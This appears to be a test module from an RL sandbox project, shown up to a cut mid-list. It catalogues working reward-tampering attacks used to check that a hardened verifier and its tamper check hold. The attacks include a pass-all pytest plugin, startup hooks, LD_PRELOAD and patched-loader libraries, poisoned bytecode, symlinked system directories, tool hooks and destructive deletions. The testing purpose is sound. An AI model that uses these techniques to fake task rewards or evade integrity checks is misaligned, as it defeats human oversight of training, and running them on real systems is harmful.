"""Tampering agents: a no-op agent plus one tampering step each, against every runner and both backends.

Shared by ``tests/test_reward_integrity.py`` and, as a script, by the README table::

    python tests/integrity_attacks.py [--backend docker local] [--json out.json] > table.md

Each attempt opens a fresh sandbox of the task, runs the attack as the agent would (its shell: root in Docker, the
sandbox uid on the local backend), then scores it twice: first with ``naive_verify`` (the verifier before reward
hardening: the image's ``python3`` from PATH, no process kill, no tamper check; the positive control that the
attack is real), then with the project's ``verify``. The payload most attacks plant (``EVILHOOK``) makes every
pytest test pass (a plugin through ``PYTEST_PLUGINS``, honoured even with autoload off) and writes
``/logs/verifier/reward.txt`` = 1 when Python exits: whichever Python of the verifier runs it, a naive verifier
scores 1.0.
"""

from __future__ import annotations

import asyncio
import dataclasses
import functools
import json
import shlex
import subprocess
import sys
import tempfile
import time
import uuid
from pathlib import Path

HERE = Path(__file__).parent
sys.path.insert(0, str(HERE.parent))

FIXTURES = HERE / "fixtures" / "tasks"
KIT = "/tmp/.jrt-evil"

EVILHOOK = f"""
import atexit, os, sys
if {KIT!r} not in sys.path:
    sys.path.insert(0, {KIT!r})
os.environ["PYTEST_PLUGINS"] = "evilplugin"
def _win():
    try:
        os.makedirs("/logs/verifier", exist_ok=True)
        with open("/logs/verifier/reward.txt", "w") as f:
            f.write("1\\n")
    except OSError:
        pass
atexit.register(_win)
"""
EVILPLUGIN = """
import pytest
@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    rep = outcome.get_result()
    rep.outcome = "passed"
    rep.longrepr = None
"""
PASSALL_CONFTEST = EVILPLUGIN
# /app/pytest.py: run as `python3 -m pytest`, writes a passing JUnit report for every test function it is given
FAKE_PYTEST = """
import os, re, sys
def main(args=None, plugins=None):
    args = list(sys.argv[1:] if args is None else args) + os.environ.get("PYTEST_ADDOPTS", "").split()
    names = []
    for a in args:
        if a.endswith(".py") and os.path.exists(a):
            names += re.findall(r"^def (test_\\w+)", open(a).read(), re.M)
    for a in args:
        if a.startswith("--junitxml="):
            path = a.split("=", 1)[1]
            os.makedirs(os.path.dirname(path), exist_ok=True)
            cases = "".join('<testcase classname="test_outputs" name="%s"/>' % n for n in names)
            open(path, "w").write("<testsuites><testsuite>%s</testsuite></testsuites>" % cases)
    os.makedirs("/logs/verifier", exist_ok=True)
    open("/logs/verifier/reward.txt", "w").write("1")
    print("%d passed" % len(names))
    return 0
if __name__ == "__main__":
    sys.exit(main())
"""
DAEMON = """
import glob, os, re, time
mode = %r
while True:
    try:
        if mode == "junit":
            for f in glob.glob("/logs/verifier/.*/junit.xml") + glob.glob("/logs/verifier/junit.xml"):
                s = open(f).read()
                t = re.sub(r"<(failure|error)\\b.*?</(failure|error)>|<(failure|error)\\b[^>]*/>", "", s, flags=re.S)
                if t != s:
                    open(f, "w").write(t)
        elif mode == "reward":
            if os.path.isdir("/logs/verifier"):
                open("/logs/verifier/reward.txt", "w").write("1")
        elif mode == "conftest":
            if os.path.exists("/tests") and not os.path.exists("/tests/conftest.py") and os.listdir("/tests"):
                open("/tests/conftest.py", "w").write(%r)
    except OSError:
        pass
    time.sleep(0.01)
"""
EVIL_SO_C = r"""
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
__attribute__((constructor)) static void in(void) { setenv("PYTHONPATH", "/tmp/.jrt-evil", 1); }
__attribute__((destructor)) static void out(void) {
    mkdir("/logs", 0755); mkdir("/logs/verifier", 0755);
    FILE *f = fopen("/logs/verifier/reward.txt", "w"); if (f) { fputs("1\n", f); fclose(f); }
}
"""
PYC_POISON = f"""
import importlib.util, marshal, os, argparse
src = argparse.__file__
st = os.stat(src)
code = compile(open(src).read() + "\\nimport sys; sys.path.insert(0, {KIT!r}); import evilhook\\n", src, "exec")
pyc = importlib.util.cache_from_source(src)
head = importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little") + (int(st.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little")
open(pyc, "wb").write(head + (st.st_size & 0xFFFFFFFF).to_bytes(4, "little") + marshal.dumps(code))
"""
HOOK_LINE = f'import sys; sys.path.insert(0, "{KIT}"); import evilhook'

PRELUDE = f"""
mkdir -p {KIT}
cat > {KIT}/evilhook.py <<'JRT_EOF'
{EVILHOOK}
JRT_EOF
cat > {KIT}/evilplugin.py <<'JRT_EOF'
{EVILPLUGIN}
JRT_EOF
cp {KIT}/evilhook.py {KIT}/sitecustomize.py
PY=$(readlink -f "$(command -v python3)")
SITE=$(python3 -c 'import sys; print([p for p in sys.path if p.endswith(("site-packages", "dist-packages"))][0])')
LIBDIR=$(dirname "$(ldd "$PY" | awk '/libc[.]so/ {{print $3}}')")
PYTESTDIR=$(python3 -c 'import os, pytest; print(os.path.dirname(pytest.__file__))')
"""


def _daemon(mode: str) -> str:
    return (f"cat > {KIT}/daemon_{mode}.py <<'JRT_EOF'\n{DAEMON % (mode, PASSALL_CONFTEST)}\nJRT_EOF\n"
            f"nohup setsid python3 {KIT}/daemon_{mode}.py >/dev/null 2>&1 &\nsleep 0.3\n"
            f"pgrep -f daemon_{mode} >/dev/null || ps ax | grep -q '[d]aemon_{mode}'")


def _wrapper(path: str, real: str) -> str:
    """A script at ``path`` that runs ``real`` (expanded now) with the payload on PYTHONPATH."""
    return (f"printf '#!/bin/sh\\nexport PYTHONPATH={KIT}\\nexec %s \"$@\"\\n' \"{real}\" > {path}.new && "
            f"chmod +x {path}.new && mv -f {path}.new {path}")


@dataclasses.dataclass(frozen=True)
class Attack:
    name: str
    cls: str  # the issue's class
    script: str  # run in the agent's shell after PRELUDE; exit 0 = the tampering step landed
    note: str = ""
    needs_so: bool = False  # the host-built evil.so is written to KIT first (as an agent could, e.g. base64)


ATTACKS = [
    Attack("nop", "control", "true"),
    Attack("python3 wrapper on PATH", "toolchain", _wrapper("/usr/local/bin/python3", "$PY")),
    Attack("timeout wrapper on PATH", "toolchain", _wrapper("/usr/local/bin/timeout", "/usr/bin/timeout")),
    Attack("bash wrapper on PATH", "toolchain", _wrapper("/usr/local/bin/bash", "/bin/bash")),
    Attack("fake pytest on PATH", "toolchain",
           "printf '#!/bin/sh\\nmkdir -p /logs/verifier; echo 1 > /logs/verifier/reward.txt; echo \"1 passed\"\\n' "
           "> /usr/local/bin/pytest && chmod +x /usr/local/bin/pytest"),
    Attack("replaced /usr/bin/python3", "toolchain",
           f"rm -f /usr/bin/python3 && {_wrapper('/usr/bin/python3', '$PY')}"),
    Attack("sitecustomize.py", "toolchain",
           "f=$(python3 -c 'import os, sitecustomize; print(os.path.realpath(sitecustomize.__file__))' 2>/dev/null "
           f"|| echo $SITE/sitecustomize.py); echo '{HOOK_LINE}' >> \"$f\""),
    Attack(".pth in system site", "toolchain", f"echo '{HOOK_LINE}' > $SITE/zz_evil.pth"),
    Attack(".pth in user site", "toolchain",
           f"U=$(python3 -m site --user-site) && mkdir -p \"$U\" && echo '{HOOK_LINE}' > \"$U/zz_evil.pth\""),
    Attack("edited pytest package", "toolchain", f"printf '\\n{HOOK_LINE}\\n' >> $PYTESTDIR/__init__.py"),
    Attack("shadowing pluggy in an earlier site dir", "toolchain",
           "D=$(python3 -c 'import sys; print([p for p in sys.path if p.endswith((\"site-packages\", "
           "\"dist-packages\"))][0])') && P=$(python3 -c 'import os, pluggy; print(os.path.dirname(pluggy.__file__))')"
           " && [ \"$(dirname $P)\" != \"$D\" ] && mkdir -p $D && cp -r $P $D/pluggy && "
           f"printf '\\n{HOOK_LINE}\\n' >> $D/pluggy/__init__.py"),
    Attack("poisoned stdlib bytecode", "toolchain", f"python3 - <<'JRT_EOF'\n{PYC_POISON}\nJRT_EOF"),
    Attack("/app/pytest.py", "toolchain", f"cat > /app/pytest.py <<'JRT_EOF'\n{FAKE_PYTEST}\nJRT_EOF"),
    Attack("stdlib module shadowed in the work dir", "toolchain",
           f"cp \"$(python3 -c 'import argparse; print(argparse.__file__)')\" /app/argparse.py && "
           f"printf '\\n{HOOK_LINE}\\n' >> /app/argparse.py"),
    Attack("/conftest.py + /pytest.ini", "toolchain",
           f"cat > /conftest.py <<'JRT_EOF'\n{PASSALL_CONFTEST}\nJRT_EOF\nprintf '[pytest]\\n' > /pytest.ini"),
    Attack("/app/conftest.py + /app/pytest.ini", "toolchain",
           f"cat > /app/conftest.py <<'JRT_EOF'\n{PASSALL_CONFTEST}\nJRT_EOF\nprintf '[pytest]\\n' > /app/pytest.ini"),
    Attack("LD_PRELOAD via /etc/ld.so.preload", "toolchain", f"echo {KIT}/evil.so > /etc/ld.so.preload",
           needs_so=True),
    Attack("replaced libc symlink", "toolchain",
           f"cp $LIBDIR/libc.so.6 {KIT}/libc.so.6 && ln -sf {KIT}/libc.so.6 $LIBDIR/libc.so.6",
           "the copy is faithful (a real attacker would patch it): detection only"),
    Attack("ld.so.cache redirect (ldconfig DIR)", "toolchain",
           "mkdir -p /opt/evil && cp $LIBDIR/libc.so.6 /opt/evil/ && ldconfig /opt/evil && "
           "ldconfig -p | grep -q /opt/evil", "detection only (faithful copy)"),
    Attack("mkdir wrapper (the sandbox's file API runs it)", "toolchain",
           f"cat > {KIT}/plant.py <<'JRT_EOF'\n{DAEMON % ('conftest', PASSALL_CONFTEST)}\nJRT_EOF\n"
           f"printf '#!/bin/sh\\n(setsid python3 {KIT}/plant.py >/dev/null 2>&1 &)\\nexec /bin/mkdir \"$@\"\\n' "
           "> /usr/local/bin/mkdir && chmod +x /usr/local/bin/mkdir"),
    Attack("NSS module via /etc/nsswitch.conf", "toolchain",
           f"cp {KIT}/evil.so $LIBDIR/libnss_evil.so.2 && sed -i 's/^passwd:.*/passwd: evil files/' "
           "/etc/nsswitch.conf", "detection only", needs_so=True),
    Attack("background process rewrites the JUnit XML", "race", _daemon("junit")),
    Attack("background process writes the reward file", "race", _daemon("reward")),
    Attack("background process plants /tests/conftest.py", "race", _daemon("conftest")),
    Attack("fake reward.txt / reward.json written early", "race",
           "mkdir -p /logs/verifier && echo 1 > /logs/verifier/reward.txt && "
           "echo '{\"reward\": 1}' > /logs/verifier/reward.json"),
    Attack("/tests replaced by passing tests", "race",
           "mkdir -p /tests && printf 'def test_ok():\\n    pass\\n' > /tests/test_outputs.py && "
           "printf 'echo 1 > /logs/verifier/reward.txt\\n' > /tests/test.sh && cp /tests/test.sh /tests/run-tests.sh"),
    Attack("/logs/verifier symlinked to a planted reward", "race",
           f"mkdir -p {KIT}/logs && echo 1 > {KIT}/logs/reward.txt && rm -rf /logs/verifier && "
           f"mkdir -p /logs && ln -s {KIT}/logs /logs/verifier"),
    Attack("deleted python3", "sabotage", "rm -f /usr/bin/python3* /usr/local/bin/python3* && ! command -v python3"),
    Attack("deleted timeout", "sabotage", "rm -f /usr/bin/timeout && ! test -e /usr/bin/timeout"),
    Attack("deleted pytest package", "sabotage", "rm -rf $PYTESTDIR && ! test -e $PYTESTDIR"),
    Attack("work dir replaced by a dangling link", "sabotage",
           "cd / && rm -rf /app && ln -s /nonexistent /app && test -L /app"),
    Attack("killed the keep-alive", "sabotage",
           "for p in /proc/[0-9]*; do grep -qa jaxrl/pause $p/cmdline 2>/dev/null && kill -9 ${p#/proc/}; done; "
           "kill -9 1 2>/dev/null; true"),
]



# ------------------------------------------------------------------------------------------- round 3
# Attacks on the path-pattern tamper check: the same payloads, planted where a check by file name misses them
# (other names, encodings and forms of the same start-up hook; system directories swapped for links to prepared
# copies; the hooks of the tools the test scripts run). Most use PLANT: it puts the pass-all plugin in as
# /tests/conftest.py once the tests are there (pytest loads it even rooted at /tests with --confcutdir=/tests) and
# writes reward 1, from whatever process the planted hook runs in.

PLANT = f"""#!/bin/sh
for t in /tests/test_*.py; do
    if [ -e "$t" ] && [ ! -e /tests/conftest.py ]; then cp {KIT}/evilplugin.py /tests/conftest.py; fi
    break
done
if [ -d /logs/verifier ]; then echo 1 > /logs/verifier/reward.txt; fi
"""
# evil2.so: evil.so's PYTHONPATH and reward, and PLANT in C, run by whatever process loads it (a preload through a
# patched loader, an extension module or usercustomize as a shared object)
EVIL2_SO_C = r"""
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
static const char conftest[] = CONFTEST;
static void plant(void) {
    DIR *d = opendir("/tests");
    struct dirent *e;
    int tests = 0;
    if (!d) return;
    while ((e = readdir(d)) != NULL)
        if (strncmp(e->d_name, "test_", 5) == 0) tests = 1;
    closedir(d);
    if (!tests || access("/tests/conftest.py", F_OK) == 0) return;
    FILE *f = fopen("/tests/conftest.py", "w");
    if (f) { fputs(conftest, f); fclose(f); }
}
__attribute__((constructor)) static void in(void) { setenv("PYTHONPATH", KIT, 1); plant(); }
__attribute__((destructor)) static void out(void) {
    mkdir("/logs", 0755); mkdir("/logs/verifier", 0755);
    FILE *f = fopen("/logs/verifier/reward.txt", "w"); if (f) { fputs("1\n", f); fclose(f); }
}
"""
# EVILHOOK for a module imported in the middle of a pytest session: it also registers the plugin with the pytest
# plugin manager that is already there (PYTEST_PLUGINS is read once, maybe before this runs)
LATE_HOOK = EVILHOOK + """
try:
    import gc, evilplugin
    _cfg = sys.modules.get("_pytest.config")
    for _o in gc.get_objects() if _cfg else ():
        if isinstance(_o, _cfg.PytestPluginManager) and not _o.has_plugin("evilplugin"):
            _o.register(evilplugin, "evilplugin")
except Exception:
    pass
"""
# a usercustomize that deletes itself when the pytest it ran in exits (it is written during verification by a hook,
# see late.so; nothing of it is left for a later check)
SELF_DELETING_HOOK = EVILHOOK + """
def _gone(path=__file__):
    if "_pytest.config" in sys.modules:
        try:
            os.unlink(path)
        except OSError:
            pass
atexit.register(_gone)
"""
LATE_DIR = f"{KIT}/late"
# late.so: a library whose constructor (in whatever process loads it, as whatever user) writes a usercustomize.py
# into LATE_DIR (world-writable, on sys.path through a .pth directory line): nothing is there when the tamper
# check looks
LATE_SO_C = r"""
#include <stdio.h>
#include <unistd.h>
static const char content[] = CONTENT;
__attribute__((constructor)) static void in(void) {
    if (access(TARGET, F_OK) == 0) return;
    FILE *f = fopen(TARGET, "w");
    if (f) { fputs(content, f); fclose(f); }
}
"""
V3_PRELUDE = f"""
cat > {KIT}/plant.sh <<'JRT_EOF'
{PLANT}
JRT_EOF
chmod 755 {KIT}/plant.sh
ZIP=$(python3 -c 'import sys; print([p for p in sys.path if p.endswith(".zip")][0])')
STDLIB=$(python3 -c 'import os; print(os.path.dirname(os.__file__))')
"""


def _v3(script: str) -> str:
    return f"{V3_PRELUDE}\n{script}"


def _stub(path: str, real: str) -> str:
    """A shell stub at ``path``: PLANT, the payload on PYTHONPATH for any python after it, then ``real`` (expanded
    now)."""
    return (f"printf '#!/bin/sh\\n%s\\nexport PYTHONPATH=%s\\nexec %s \"$@\"\\n' {KIT}/plant.sh {KIT} \"{real}\" "
            f"> {path} && chmod 755 {path}")


def _dir_link(d: str, name: str, real: str, copy: bool) -> str:
    """``d`` (a directory of the image on PATH) swapped for a link to a prepared directory holding a stub ``name``
    (a copy of ``d`` first when ``copy``)."""
    prep = f"{KIT}/{d.strip('/').replace('/', '_')}"
    fill = f"cp -a {d} {prep}" if copy else f"mkdir -p {prep}"
    return (f"rm -rf {prep} && {fill} && rm -f {prep}/{name} && {_stub(f'{prep}/{name}', real)} && "
            f"rm -rf {d} && ln -s {prep} {d} && test -x {d}/{name}")


WHEEL = f"""
import os, zipfile
os.makedirs("{KIT}/wheels", exist_ok=True)
files = {{"jrt_pip.pth": {HOOK_LINE!r} + "; import os; os.unlink(fullname)\\n",
         "pytest-99.0.dist-info/METADATA": "Metadata-Version: 2.1\\nName: pytest\\nVersion: 99.0\\n",
         "pytest-99.0.dist-info/WHEEL": "Wheel-Version: 1.0\\nGenerator: jrt\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"}}
files["pytest-99.0.dist-info/RECORD"] = "".join(n + ",,\\n" for n in files) + "pytest-99.0.dist-info/RECORD,,\\n"
with zipfile.ZipFile("{KIT}/wheels/pytest-99.0-py3-none-any.whl", "w") as z:
    for n, text in files.items():
        z.writestr(n, text)
"""
LOADER_PATCH = f"""
import os
real = os.path.realpath("/lib64/ld-linux-x86-64.so.2")
data = open(real, "rb").read()
assert data.count(b"/etc/ld.so.preload") == 1
os.makedirs("{KIT}/l64", exist_ok=True)
for n in os.listdir("/lib64"):
    if n != "ld-linux-x86-64.so.2":
        os.symlink(os.path.realpath("/lib64/" + n), "{KIT}/l64/" + n)
with open("{KIT}/l64/ld-linux-x86-64.so.2", "wb") as f:
    f.write(data.replace(b"/etc/ld.so.preload", b"{KIT}/pre"))
os.chmod("{KIT}/l64/ld-linux-x86-64.so.2", 0o755)
"""
assert len(f"{KIT}/pre") == len("/etc/ld.so.preload")
PASS_TESTS = ("def test_count_file_exists():\\n    pass\\n\\ndef test_count_is_correct():\\n    pass\\n\\n"
              "def test_stats():\\n    pass\\n\\ndef test_keys_file_exists():\\n    pass\\n\\n"
              "def test_keys_sorted():\\n    pass\\n")

ATTACKS_V3 = [
    # -- import path: pytest configuration and plugins where a name check misses them
    Attack("/.pytest.ini loads a plugin from the work dir", "import path",
           f"cp {KIT}/evilplugin.py /app/jrt_collect.py && printf '[pytest]\\naddopts = -p jrt_collect\\n' > /.pytest.ini",
           "pytest reads .pytest.ini above /tests (rootdir /); -p imports the plugin from the cwd (python3 -m pytest)"),
    Attack("/.pytest.ini swaps the tests (addopts)", "import path",
           f"mkdir -p {KIT}/t && printf '{PASS_TESTS}' > {KIT}/t/test_ok.py && "
           f"printf '[pytest]\\naddopts = --deselect tests/test_outputs.py {KIT}/t/test_ok.py\\n' > /.pytest.ini",
           "no code at all: addopts deselects the task's tests and adds passing ones of the same names"),
    Attack("/pyproject.toml pytest options as a dotted key", "import path",
           f"cp {KIT}/evilplugin.py /app/jrt_collect.py && "
           "printf 'tool.pytest.ini_options.addopts = \"-p jrt_collect\"\\n' > /pyproject.toml",
           "[tool.pytest.ini_options] written as a top-level dotted key (no section header to match)"),
    Attack("_wmi.py in a site dir (platform imports it if present)", "import path",
           f"cat > $SITE/_wmi.py <<'JRT_EOF'\n{LATE_HOOK}\nJRT_EOF",
           "platform (imported by pytest's junitxml) tries `import _wmi` on every OS: a new module that hides "
           "nothing of the image, found in the site dirs the pristine runner appends too"),
    Attack("msvcrt.py via a .pth directory line (subprocess probes it)", "import path",
           f"mkdir -p {KIT}/m && {{ cat <<'JRT_EOF'\n{LATE_HOOK}\nJRT_EOF\n"
           "echo 'raise ModuleNotFoundError(\"msvcrt\", name=\"msvcrt\")'; } > " + f"{KIT}/m/msvcrt.py && "
           f"echo {KIT}/m > $SITE/zz_jrt.pth",
           "subprocess tries `import msvcrt` (Windows test): the module runs, then raises ModuleNotFoundError so "
           "subprocess goes on as on POSIX; its dir is on sys.path through a .pth dir line (pristine runner too)"),
    # -- startup: interpreter start-up hooks in forms a name check misses
    Attack("usercustomize package in a site dir", "startup",
           f"mkdir -p $SITE/usercustomize && cp {KIT}/evilhook.py $SITE/usercustomize/__init__.py",
           "site imports usercustomize (a package dir, not usercustomize.py)"),
    Attack("usercustomize bytecode only (.pyc)", "startup",
           f"cp {KIT}/evilhook.py {KIT}/uc.py && python3 -c \"import py_compile; "
           f"py_compile.compile('{KIT}/uc.py', cfile='$SITE/usercustomize.pyc', doraise=True)\"",
           "a sourceless usercustomize.pyc at the top of a site dir is importable"),
    Attack("usercustomize as a shared object", "startup", f"cp {KIT}/evil2.so $SITE/usercustomize.so",
           "dlopen runs its constructor (PLANT in C); the missing PyInit is an ImportError site ignores",
           needs_so=True),
    Attack(".pth with a UTF-8 BOM", "startup", f"printf '\\357\\273\\277{HOOK_LINE}\\n' > $SITE/zz_jrt.pth",
           "site decodes .pth files as utf-8-sig: the BOM hides the import line from a check that does not"),
    Attack(".pth directory line + usercustomize outside site dirs", "startup",
           f"mkdir -p {KIT}/uc && cp {KIT}/evilhook.py {KIT}/uc/usercustomize.py && echo {KIT}/uc > $SITE/zz_jrt.pth",
           "no import line: the .pth adds a dir to sys.path, usercustomize is imported from it"),
    Attack("sitecustomize in pythonXY.zip", "startup",
           f"mkdir -p {KIT}/z && cd {KIT}/z && {{ cat {KIT}/evilhook.py; echo \"exec(open('$STDLIB/sitecustomize.py')"
           ".read()) if __import__('os').path.exists('$STDLIB/sitecustomize.py') else None\"; } > sitecustomize.py && "
           "python3 -c \"import zipfile, sys; z = zipfile.ZipFile(sys.argv[1], 'w'); z.write('sitecustomize.py'); "
           "z.close()\" \"$ZIP\" && cd / && test -s \"$ZIP\"",
           "the zip is first on sys.path (before the stdlib dir): its sitecustomize wins over Debian's"),
    Attack("python3._pth next to the interpreter", "startup",
           f"python3 -c \"import sys; print('\\n'.join(['{KIT}'] + [p for p in sys.path if p] + ['import site']))\" "
           f"> {KIT}/pth && mv {KIT}/pth \"$(dirname \"$(command -v python3)\")/python3._pth\"",
           "getpath reads <executable>._pth on POSIX too: it replaces sys.path (KIT first: its sitecustomize)"),
    Attack("pyvenv.cfg home -> prepared stdlib", "startup",
           f"mkdir -p {KIT}/h/bin {KIT}/h/lib && cp -as $STDLIB {KIT}/h/lib/ && "
           f"rm -f {KIT}/h/lib/$(basename $STDLIB)/sitecustomize.py && "
           f"cp {KIT}/evilhook.py {KIT}/h/lib/$(basename $STDLIB)/sitecustomize.py && "
           f"ln -sf \"$PY\" {KIT}/h/bin/python3 && "
           f"printf 'home = {KIT}/h/bin\\ninclude-system-site-packages = true\\n' > "
           "\"$(dirname \"$(command -v python3)\")/pyvenv.cfg\"",
           "pyvenv.cfg next to python3: its home moves the stdlib (a link farm with our sitecustomize.py)"),
    # -- links: system directories replaced by links to prepared copies
    Attack("lib-dynload -> copy with a hostile extension module", "links",
           "F=$(python3 -c 'import _uuid; print(_uuid.__file__)') && D=$(dirname $F) && "
           f"rm -rf {KIT}/dyn && cp -a $D {KIT}/dyn && cp {KIT}/evil2.so {KIT}/dyn/$(basename $F) && rm -rf $D && "
           f"ln -s {KIT}/dyn $D && python3 -c 'import uuid'",
           "lib-dynload is a link to a copy where _uuid (imported by pytest) is evil2.so: its constructor runs PLANT, "
           "the missing PyInit is an ImportError uuid falls back from (/etc -> copy cannot land: Docker's bind "
           "mounts in /etc keep it from being replaced)", needs_so=True),
    Attack("dist-packages -> edited copy", "links",
           f"P=$(dirname $PYTESTDIR) && rm -rf {KIT}/dp && cp -a $P {KIT}/dp && "
           f"printf '\\n{HOOK_LINE}\\n' >> {KIT}/dp/pytest/__init__.py && echo '{HOOK_LINE}' > {KIT}/dp/zz_jrt.pth && "
           f"rm -rf $P && ln -s {KIT}/dp $P",
           "the site dir holding pytest is a link to a copy with a hooked pytest and an import .pth"),
    Attack("/lib64 -> patched dynamic loader", "links",
           f"echo {KIT}/evil2.so > {KIT}/pre && python3 - <<'JRT_EOF'\n{LOADER_PATCH}\nJRT_EOF\n"
           f"ln -sfn {KIT}/l64 /lib64 && /bin/true",
           "PT_INTERP /lib64/ld-linux-x86-64.so.2 is a copy whose preload path reads KIT/pre (same length)",
           needs_so=True),
    Attack("stdlib dir -> edited copy", "links",
           f"rm -rf {KIT}/std && cp -a $STDLIB {KIT}/std && rm -f {KIT}/std/sitecustomize.py && "
           f"cp {KIT}/evilhook.py {KIT}/std/sitecustomize.py && rm -rf $STDLIB && ln -s {KIT}/std $STDLIB",
           "the image python's stdlib dir is a link to a copy with our sitecustomize.py"),
    # -- verifier exec: what the verifier (or the old one's file API) runs, from a PATH dir swapped for a link
    Attack("mkdir stub in a PATH dir swapped for a link", "verifier exec",
           _dir_link("/usr/local/sbin", "mkdir", "/usr/bin/mkdir", copy=False),
           "/usr/local/sbin (first on PATH) -> prepared dir: mkdir (file API, test.sh) runs PLANT"),
    Attack("bash stub in /usr/local/bin swapped for a link", "verifier exec",
           _dir_link("/usr/local/bin", "bash", "/usr/bin/bash", copy=False),
           "/usr/local/bin (before /usr/bin) -> prepared dir: the verifier's `bash test.sh` runs PLANT first "
           "(/usr/sbin cannot be swapped: docker-init is mounted in it)"),
    # -- stub commands: the commands the test scripts run (python3, mkdir)
    Attack("python3 stub in /usr/local/bin swapped for a link", "stub commands",
           _dir_link("/usr/local/bin", "python3", "$PY", copy=False),
           "the scripts' python3 resolves through /usr/local/bin -> prepared dir"),
    Attack("/usr/bin swapped for a copy with a python3 stub", "stub commands",
           f"rm -rf /usr/bin.jrt && cp -a /usr/bin /usr/bin.jrt && rm -f /usr/bin.jrt/python3 && "
           f"{_stub('/usr/bin.jrt/python3', '$PY')} && \"$PY\" -c \"import os, shutil; "
           "shutil.rmtree('/usr/bin'); os.symlink('/usr/bin.jrt', '/usr/bin')\" && test -L /usr/bin",
           "the image's /usr/bin is a link to a full copy where python3 is a stub: no change under /usr/bin"),
    # -- tool hooks (the tools runner's test.sh runs apt-get, curl | sh, pip and git)
    Attack("apt Update::Pre-Invoke hook", "tool hooks",
           f"printf 'APT::Update::Pre-Invoke {{\"{KIT}/plant.sh\";}};\\n' > /etc/apt/apt.conf.d/99jrt",
           "apt-get update runs the hook (before it fails offline)"),
    Attack("pip site config + local wheel", "tool hooks",
           f"python3 - <<'JRT_EOF'\n{WHEEL}\nJRT_EOF\n"
           f"printf '[global]\\nbreak-system-packages = true\\nno-index = true\\nfind-links = {KIT}/wheels\\n"
           "[install]\\nignore-installed = true\\nupgrade = true\\n' > \"$(python3 -c 'import sys; print(sys.prefix)')/pip.conf\"",
           "sys.prefix/pip.conf (pip's site config): `pip install pytest` installs a wheel with an import .pth"),
    Attack("~/.curlrc adds a file:// URL", "tool hooks",
           f"printf '{KIT}/plant.sh\\n' > {KIT}/install.sh && printf 'url = \"file://{KIT}/install.sh\"\\n' > /root/.curlrc",
           "`curl URL | sh`: curl also fetches the rc file's URL (first), sh runs it"),
    Attack("git core.fsmonitor in the work dir's repo", "tool hooks",
           f"git init -q /app && git -C /app config core.fsmonitor {KIT}/plant.sh",
           "the work dir is the agent's; `git status` there runs the fsmonitor hook"),
]
ATTACKS_V3 += [
    Attack("git: the work dir's .git is a gitfile to a repo in /tmp", "tool hooks",
           f"rm -rf {KIT}/repo && git init -q --separate-git-dir {KIT}/repo /app && "
           f"git --git-dir={KIT}/repo config core.fsmonitor {KIT}/plant.sh && test -f /app/.git",
           "/app/.git is a file (gitdir: KIT/repo): the repository, its config and fsmonitor hook live in /tmp"),
    Attack("NSS module the image lacks (services: db), loaded by apt", "tool hooks",
           f"mkdir -p {LATE_DIR} && chmod 1777 {LATE_DIR} && echo {LATE_DIR} > $SITE/zz_late.pth && "
           "cp " + f"{KIT}/late.so $LIBDIR/libnss_db.so.2",
           "nsswitch.conf (unchanged) says `services: db files`; libnss_db.so.2 is new (hides nothing): apt's "
           "resolver (as _apt) loads it during `apt-get update` and it writes a usercustomize.py into an empty "
           "dir a .pth dir line names; the usercustomize deletes itself", needs_so=True),
]
ATTACKS_V3 = [dataclasses.replace(a, script=_v3(a.script)) for a in ATTACKS_V3]
ATTACKS = [*ATTACKS, *ATTACKS_V3]


# ------------------------------------------------------------------------------------------- round 4
# Attacks on the tamper check's idea of where a file is. resolve() learns that a path is a link only from
# stat_requests(), which skips the agent's areas: the work dir itself (and any link in /tmp) is never stat'ed, so
# /app -> elsewhere is never resolved and the scripts' python (`python3 -m pytest`, `python3 -` put the cwd first)
# imports what the link's target holds. Outside the agent's areas, targets and .pth lines are compared as strings:
# /proc/self/root/..., //tmp/... or a link in /tmp name the agent's files without being "under /tmp".

# json.py for `python3 -` (Harbor test.sh imports json): hands over to the real json, writes reward 1 at exit
JSON_HOOK = """
import atexit, os, sys
_here = os.path.dirname(os.path.abspath(__file__))
del sys.modules[__name__]
_saved = sys.path[:]
sys.path[:] = [p for p in sys.path if p not in ("", ".", _here, os.getcwd())]
import json as _real
sys.path[:] = _saved
sys.modules["json"] = _real
globals().update({k: getattr(_real, k) for k in dir(_real) if not k.startswith("__")})
def _win():
    try:
        os.makedirs("/logs/verifier", exist_ok=True)
        open("/logs/verifier/reward.txt", "w").write("1\\n")
    except OSError:
        pass
atexit.register(_win)
"""


def _cwd_kit(d: str) -> str:
    """pytest.py (FAKE_PYTEST) and json.py (JSON_HOOK) in ``d``: what a script's python imports from its cwd."""
    return (f"mkdir -p {d} && cat > {d}/pytest.py <<'JRT_EOF'\n{FAKE_PYTEST}\nJRT_EOF\n"
            f"cat > {d}/json.py <<'JRT_EOF'\n{JSON_HOOK}\nJRT_EOF\n")


def _workdir_link(target: str) -> str:
    return f"cd / && rm -rf /app && ln -s {target} /app && test -d /app/ && test -f /app/pytest.py"


ATTACKS_V4 = [
    Attack("work dir -> / (modules at the root)", "links",
           _cwd_kit("/") + _workdir_link("/"),
           "/app is a link to /: not flagged, but the scripts fail (verifier_sabotaged) or score 0 here"),
    Attack("work dir -> /proc/self/root/tmp/... (magic link)", "links",
           _cwd_kit(f"{KIT}/cwd") + _workdir_link(f"/proc/self/root{KIT}/cwd"),
           "/app is never stat'ed (an agent area): the link is not resolved, /app/pytest.py is never seen"),
    Attack("work dir -> link -> link (chain)", "links",
           _cwd_kit(f"{KIT}/cwd2") + f"ln -sfn {KIT}/cwd2 {KIT}/hop && " + _workdir_link(f"{KIT}/hop"),
           "as the plain link: /app is never stat'ed"),
    Attack("work dir -> //tmp/... (two leading slashes)", "links",
           _cwd_kit(f"{KIT}/cwd3") + _workdir_link(f"/{KIT}/cwd3"),
           "as the plain link: /app is never stat'ed"),
]

# The same path-identity gap outside the work dir: a link of the image re-pointed at /proc/self/root/<agent area>
# is not "pointing at what the agent made" (the target string is not under /tmp), and a .pth directory line spelled
# through /proc/self/root or with two leading slashes is not the directory the changes are listed under.
MAGIC = "/proc/self/root"
ATTACKS_V4 += [
    Attack("loader link of the image re-pointed through /proc/self/root", "links",
